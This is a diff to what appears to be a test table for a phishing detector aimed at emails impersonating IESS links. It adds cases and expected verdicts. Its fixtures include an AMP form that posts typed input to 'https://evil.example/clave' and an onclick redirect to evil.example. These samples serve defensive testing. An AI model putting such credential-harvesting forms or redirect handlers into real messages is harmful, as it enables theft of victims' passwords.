@@ -199,6 +199,14 @@ HIDDEN: list[Row] = [
     _row("event handler on the IESS link", page(*HEAD, body=f'<a href="{IESS_LINK}" '
                                                  "onclick=\"location='//evil.example'\">x</a>"),
          UNVERIFIED, NOT_A_VERDICT, "the click runs the script, not the link"),
+    _row("AMP form", parts(*HEAD, bodies=(
+        ("Content-Type: text/plain", IESS_LINK),
+        ("Content-Type: text/x-amp-html",
+         '<form method="post" action-xhr="https://evil.example/clave"><input name="c"></form>'))),
+         LOOKALIKE, NEVER_GENUINE, "an AMP form sends what is typed to its action-xhr"),
+    _row("'online =' in the text", page(*HEAD, body=f'<p>Servicios online = rápidos</p>'
+                                        f'<a href="{IESS_LINK}">Clic</a>'), GENUINE, LOOKALIKE,
+         "an event handler is an attribute inside a tag, not a word in a sentence"),
     _row("attached message", parts(*HEAD, bodies=(
         ("Content-Type: text/plain", IESS_LINK),
         ("Content-Type: message/rfc822", "From: x@evil.example\r\nContent-Type: text/html\r\n"
